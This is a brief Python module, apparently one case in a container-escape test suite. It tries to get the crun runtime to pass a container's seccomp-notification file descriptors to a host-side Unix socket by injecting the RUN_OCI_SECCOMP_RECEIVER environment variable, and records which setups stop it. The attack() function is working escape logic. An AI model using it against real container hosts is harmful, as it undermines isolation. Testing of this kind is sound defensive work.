"""RUN_OCI_SECCOMP_RECEIVER in the runtime's environment gives the container's system calls to a listener."""

import os
import socket

from bypass import inert, profile

SOURCE = "idea: crun(1)"
WAY = "arguments"
STOPPED = inert("the low-level runtime gets a short list of variables")
BARE = {"runc": "runc reads no such variable"}


def attack(t):
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind("/mnt/host/receiver")
    server.listen()
    server.settimeout(0.1)
    t.spec["linux"]["seccomp"] = profile.all_but(profile.rule("swapon", "ERRNO"))
    t.around = ["env", "RUN_OCI_SECCOMP_RECEIVER=/mnt/host/receiver"]
    t.run("true")
    try:
        handles = socket.recv_fds(server.accept()[0], 65536, 4)[1]
    except OSError:
        return ""
    return [os.readlink("/proc/self/fd/%d" % handle) for handle in handles]
